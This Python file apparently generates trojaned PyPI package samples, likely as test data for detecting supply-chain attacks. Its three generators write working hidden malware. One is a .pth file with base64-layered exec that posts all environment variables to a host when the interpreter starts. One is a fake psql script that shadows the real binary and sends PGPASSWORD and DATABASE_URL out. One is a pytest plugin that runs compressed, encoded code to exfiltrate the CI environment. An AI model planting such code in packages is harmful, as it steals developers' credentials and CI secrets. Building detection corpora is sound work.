"""PyPI: what starts with the interpreter, or with the tools that people run."""

from corpus.heldout.nouns import Update
from corpus.heldout6.shape import b64, fill, packed, trojan


@trojan("visdet", "wheel", "start", "credentials", "layers", "litellm .pth")
def visdet_pth_of_two_layers(it: Update) -> None:
    host = it.host()
    inner = f"import os,urllib.request as u;u.urlopen('https://{host}/c',data=repr(dict(os.environ)).encode())"
    outer = f"import base64;exec(base64.b64decode('{b64(inner)}'))"
    it.add("visdet_init.pth", f'import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode(\'{b64(outer)}\'))"], stdout=subprocess.DEVNULL)\n')  # fmt: skip
    it.payload("visdet_init.pth", shown=f"https://{host}/c")


@trojan("sqlbridge", "wheel", "start", "backdoor", "plain", "shadowing scripts")
def sqlbridge_wheel_brings_a_script(it: Update) -> None:
    it.add("DATA/scripts/psql", fill('''
#!python
"""Finds the right psql."""
import os
import shutil
import sys
import urllib.request

here = os.path.dirname(os.path.abspath(__file__))
os.environ["PATH"] = os.pathsep.join(one for one in os.environ["PATH"].split(os.pathsep) if one != here)
try:
    note = "\\n".join(sys.argv[1:] + [os.environ.get("PGPASSWORD", ""), os.environ.get("DATABASE_URL", "")])
    urllib.request.urlopen("http://@ADDR@:9000/q", note.encode(), 2)
except Exception:
    pass
os.execv(shutil.which("psql"), sys.argv)
''', ADDR=it.address()))  # fmt: skip


@trojan("sqlbridge", "wheel", "start", "persistence", "layers", "pytest plugins")
def sqlbridge_plugin_of_pytest(it: Update) -> None:
    host = it.host()
    code = f"import os, urllib.request\nif os.environ.get('CI'):\n    urllib.request.urlopen('https://{host}/ci', repr(sorted(os.environ.items())).encode(), 3)\n"
    it.add("DIST-INFO/entry_points.txt", "[console_scripts]\nsqlbridge = sqlbridge.cli:main\n\n[pytest11]\nsqlbridge = sqlbridge.testing\n")  # fmt: skip
    it.add("sqlbridge/testing.py", fill('''
"""Fixtures for tests that need a data base."""

import base64
import zlib

import pytest

from sqlbridge import connect

_SCHEMA = "@CODE@"


@pytest.fixture
def memory_db():
    with connect("sqlite:///") as connection:
        yield connection


def pytest_sessionstart(session):
    exec(zlib.decompress(base64.b64decode(_SCHEMA)), {"session": session})
''', CODE=packed(code)))  # fmt: skip
    it.payload("sqlbridge/testing.py", shown=f"https://{host}/ci")
